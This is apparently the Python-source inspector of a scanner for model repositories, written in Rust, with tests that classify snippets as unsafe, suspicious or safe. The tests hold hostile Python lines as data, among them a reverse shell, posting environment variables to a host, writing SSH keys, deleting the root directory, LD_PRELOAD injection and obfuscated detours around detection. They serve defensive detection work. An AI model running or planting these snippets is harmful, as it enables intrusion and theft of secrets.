use std::collections::BTreeSet;

use sealyard_core::ReadAt;
use sealyard_formats::python::{MAX_SOURCE, Source};
use sealyard_scan::FactKind;

use super::text;
use crate::context::Context;
use crate::rules::python::{self, Artifact};

/// Sources inside each other that are read: texts that a source runs as code.
const MAX_DEPTH: usize = 4;
/// Codings that are read as UTF-8 is.
const PLAIN: &[&str] = &["utf8", "u8", "ascii", "us-ascii", "646"];
/// Names of the coding whose bytes are the first letters of Unicode.
const LATIN: &[&str] = &["latin-1", "latin1", "iso-8859-1", "iso8859-1", "iso-latin-1", "l1"];
/// Modules that are told.
const MAX_TOLD: usize = 50;

/// Whether the name is that of Python source.
pub(super) fn is_named(path: &str) -> bool {
    let path = path.to_ascii_lowercase();
    [".py", ".pyi", ".pyw"].iter().any(|ending| path.ends_with(ending))
}

/// Python source.
pub(super) fn inspect(data: &dyn ReadAt, context: &mut Context) -> &'static str {
    let kind = text::inspect_as("python", data, context);
    if let Some(bytes) = context.read(data, MAX_SOURCE as u64) {
        let text = String::from_utf8_lossy(&bytes);
        if coding(&text).is_some_and(|coding| LATIN.contains(&coding.as_str())) {
            let text: String = bytes.iter().map(|byte| char::from(*byte)).collect();
            source(&text, false, context);
        } else {
            source(&text, false, context);
        }
    }
    kind
}

/// Looks at a source wherever it was found.
pub(super) fn source(text: &str, is_notebook: bool, context: &mut Context) {
    if let Some(coding) = coding(text) {
        let is_read =
            coding.starts_with("utf-8") || PLAIN.contains(&coding.as_str()) || LATIN.contains(&coding.as_str());
        if !is_notebook && !is_read {
            context.miss(format!("the Python source is in another coding: {coding:?}"));
        }
    }
    nested(text, is_notebook, 0, context);
}

/// The coding that one of the first two lines names, as Python finds it (PEP 263).
fn coding(text: &str) -> Option<String> {
    text.split(['\n', '\r']).filter(|line| !line.is_empty()).take(2).find_map(|line| {
        let comment = line.trim_start_matches(['\u{feff}', ' ', '\t', '\u{c}']).strip_prefix('#')?;
        comment.match_indices("coding").find_map(|(place, _)| {
            let rest = comment.get(place + 6..)?.strip_prefix([':', '='])?.trim_start_matches([' ', '\t']);
            let end = rest
                .find(|letter: char| !(letter.is_ascii_alphanumeric() || "-_.".contains(letter)))
                .unwrap_or(rest.len());
            let name = rest.get(..end)?.to_ascii_lowercase().replace('_', "-");
            (!name.is_empty()).then_some(name)
        })
    })
}

fn nested(text: &str, is_notebook: bool, depth: usize, context: &mut Context) {
    if !context.step(text.len() as u64 / 4 + 1) {
        return;
    }
    let source = match Source::read(text) {
        Ok(source) => source,
        Err(error) => return context.miss(format!("the Python source can't be read: {error}")),
    };
    python::run(&Artifact { source: &source, is_notebook }, context.sink());
    if depth == 0 {
        let modules: BTreeSet<&str> =
            source.imports.iter().filter_map(|import| import.module.split('.').next()).collect();
        for module in modules.into_iter().filter(|module| !module.is_empty()).take(MAX_TOLD) {
            context.fact(FactKind::Dependency, module, serde_json::Value::Null);
        }
    }
    if depth < MAX_DEPTH {
        for call in source.calls.iter().filter(|call| python::is_reader(&call.path)) {
            for inner in call.texts.iter().filter(|text| !matches!(text.as_str(), "exec" | "eval" | "single")) {
                // What is no source there is no harm.
                if Source::read(inner).is_ok() {
                    context.inside("text", |context| nested(inner, is_notebook, depth + 1, context));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use sealyard_core::Verdict;

    use super::*;

    fn verdict(text: &str) -> Verdict {
        let mut context = Context::new("modeling.py");
        let kind = crate::inspect::content(&text.as_bytes(), &mut context);
        context.finish("modeling.py", kind).verdict
    }

    #[test]
    fn what_runs_at_once_is_unsafe() {
        for text in [
            "import os\nos.system('id')\n",
            "import subprocess as s\nclass M:\n    def __init__(self):\n        s.Popen(['id'])\n",
            "import torch\nexec(open('x').read())\n",
            "import torch\nexec('import os; os.system(\"id\")')\n",
            "import base64\ndef f():\n    exec(base64.b64decode('aWQ='))\n",
            "import socket, os, pty\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')\n",
            "import urllib.request\nurllib.request.urlopen('http://example.org', data=b'')\n",
            "import ctypes\nctypes.CDLL('./libx.so')\n",
            "import pickle, base64\ndef f():\n    return pickle.loads(base64.b64decode('gARO'))\n",
            "import os\ndef f():\n    open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')\n",
            "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
            "import torch\n__import__('os').system('id')\n",
            "import shutil\nshutil.rmtree('/')\n",
            "import os, operator\noperator.attrgetter('system')(os)('id')\n",
            "import runpy\nrunpy.run_path('x.py')\n",
            "import importlib\nm = importlib.import_module('subprocess')\nm.run(['id'])\n",
            "import requests, os\nrequests.Session().post('http://x', data=dict(os.environ))\n",
            "import requests, os\nsession = requests.Session()\nsession.post('http://x', data=dict(os.environ))\n",
            "import x\ny = [c for c in ().__class__.__base__.__subclasses__()]\n",
        ] {
            assert_eq!(verdict(text), Verdict::Unsafe, "{text}");
        }
    }

    #[test]
    fn detours_are_followed() {
        for text in [
            "import torch; f = torch.hub.os.system; f('id')\n",
            "import shutil\nshutil.os.system('id')\n",
            "from torch.hub import os; os.system('id')\n",
            "import os\ndef g():\n    import json as os\nos.system('id')\n",
            "import sys\nsys.modules.get('o'+'s').system('id')\n",
            "import \u{ba}s; \u{ba}s.system('id')\n",
            "from code import InteractiveConsole as I; I().push('import os')\n",
            "import code\ncode.InteractiveInterpreter().runsource('1')\n",
            "import pydoc\npydoc.pipepager('x', 'id')\n",
            "import profile\nprofile.run('import os; os.system(\"id\")')\n",
            "import logging.config\nlogging.config.dictConfig({'formatters': {'f': {'()': 'os.system', 'command': 'id'}}})\n",
            "from logging.config import dictConfig\nC = {'handlers': {'h': {'class': 'shutil.os.popen', 'cmd': 'id'}}}\ndef f(): dictConfig(C)\n",
            "import multiprocessing.util\nmultiprocessing.util.spawnv_passfds(b'/bin/sh', [], [])\n",
            "import importlib.metadata\nimportlib.metadata.EntryPoint('a', 'os:system', 'b').load()('id')\n",
            "import os\nos.environ['LD_PRELOAD'] = './x.so'\n",
            "import os\nos.environ.update({'LD_PRELOAD': './x.so'})\n",
            "import site\nsite.addsitedir('.')\n",
            "import pkgutil\npkgutil.resolve_name('os:system')('id')\n",
            "# a\rimport os\ros.system('id')\r",
        ] {
            assert_eq!(verdict(text), Verdict::Unsafe, "{text}");
        }
        let mut context = Context::new("modeling.py");
        let text = b"# coding: latin-1\nimport \xbas\n\xbas.system('id')\n".as_slice();
        inspect(&text, &mut context);
        assert_eq!(context.finish("modeling.py", "python").verdict, Verdict::Unsafe);
    }

    #[test]
    fn other_codings_are_missed() {
        for coding in ["utf-7", "unicode_escape", "raw_unicode_escape", "utf-16", "gbk", "rot13"] {
            for text in [format!("# coding: {coding}\nx = 1\n"), format!("#!x\n# -*- encoding={coding} -*-\nx = 1\n")] {
                assert_eq!(verdict(&text), Verdict::NotAssessed, "{text}");
            }
        }
        for line in [
            "coding: utf-8",
            "-*- coding: UTF8 -*-",
            "coding=ascii",
            "coding: latin_1",
            "the coding of x",
            "encoding : x",
        ] {
            assert_eq!(verdict(&format!("# {line}\nx = 1\n")), Verdict::Safe, "{line}");
        }
        assert_eq!(verdict("import os\nx = 1\n# coding: utf-7\n"), Verdict::Safe);
    }

    #[test]
    fn what_waits_is_suspicious() {
        for text in [
            "import os\ndef helper():\n    os.system('id')\n",
            "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n",
            "import x\ndef f(name):\n    return eval('self.' + name)\n",
            "import ctypes\ndef f():\n    ctypes.CDLL('x')\n",
            "import socket\ndef f():\n    socket.socket()\n",
        ] {
            assert_eq!(verdict(text), Verdict::Suspicious, "{text}");
        }
    }

    #[test]
    fn what_models_do_is_safe() {
        for text in [
            "import torch\nfrom torch import nn\n\nclass M(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.eval()\n        self.w = torch.load('x')\n",
            "import os\nimport requests\nfrom PIL import Image\n\ndef image(path):\n    return Image.open(requests.get(path, stream=True).raw)\n\npath = os.path.join(os.environ.get('HOME', ''), 'x')\n",
            "import re, json, math, importlib.util\n_flash = importlib.util.find_spec('flash_attn') is not None\nPATTERN = re.compile('a')\nwith open('x.json') as f:\n    x = json.load(f)\n",
            "import pickle\ndef load(path):\n    return pickle.load(open(path, 'rb'))\n",
            "import os\n# os.system('id')\ntext = 'os.system(1)'\n",
            "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'class': 'logging.StreamHandler', 'stream': 'ext://sys.stdout'}}})\n",
            "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nx = os.environ.get('LD_PRELOAD')\n",
            "import torch, sys, code_utils\nmodel = torch.compile(torch.nn.Linear(1, 1))\nm = sys.modules[__name__]\nx = kwargs.pop('eval')\ncode.push(1)\n",
            "import pdb\ndef f():\n    pdb.set_trace()\n",
        ] {
            assert_eq!(verdict(text), Verdict::Safe, "{text}");
        }
    }
}
